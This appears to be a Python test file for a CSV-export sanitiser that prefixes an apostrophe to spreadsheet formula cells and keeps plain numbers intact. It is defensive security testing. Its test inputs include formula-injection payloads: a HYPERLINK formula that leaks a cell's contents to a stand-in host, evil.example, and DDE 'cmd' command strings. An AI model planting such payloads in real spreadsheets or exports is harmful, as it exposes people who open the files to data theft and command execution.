"""Cells a spreadsheet would run are written behind an apostrophe; numbers stay numbers; import undoes it exactly."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hub.csvcells import neutralise, spreadsheet_safe_row, unneutralise
from hub.reports import csv_text


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("https://evil.example/?leak="&A2,"Details")',
            '\'=HYPERLINK("https://evil.example/?leak="&A2,"Details")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # a text that starts with an apostrophe itself gets one more
        ("-", "'-"),
        # Plain numbers are what numeric columns hold; no formula hides in them.
        ("-5", "-5"),
        ("+1.5e3", "+1.5e3"),
        ("-0.25", "-0.25"),
        # Nothing to do.
        ("WHITE METAL LANTERN", "WHITE METAL LANTERN"),
        ("1+1", "1+1"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_formula_cells_get_an_apostrophe_and_numbers_do_not(cell: str, written: str) -> None:
    assert neutralise(cell) == written
    assert unneutralise(written) == cell


@given(st.text())
def test_no_text_is_written_as_a_formula_and_each_comes_back(cell: str) -> None:
    written = neutralise(cell)
    if written[:1] in ("=", "+", "-", "@", "\t", "\r"):
        float(written)  # only a plain number may still start so
    assert unneutralise(written) == cell


def test_only_text_cells_are_touched() -> None:
    assert spreadsheet_safe_row(["=1+1", -5, 2.5, True, None, "-7"]) == ["'=1+1", -5, 2.5, True, None, "-7"]


def test_report_csv_neutralises_text_and_keeps_numbers() -> None:
    text = csv_text(
        ["sku_id", "units", "note"],
        [{"sku_id": "=cmd|' /C calc'!A0", "units": -5, "note": "@SUM(A1)"}, {"sku_id": "milk", "units": 3.5}],
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["sku_id", "units", "note"], ["'=cmd|' /C calc'!A0", "-5", "'@SUM(A1)"], ["milk", "3.5", ""]]
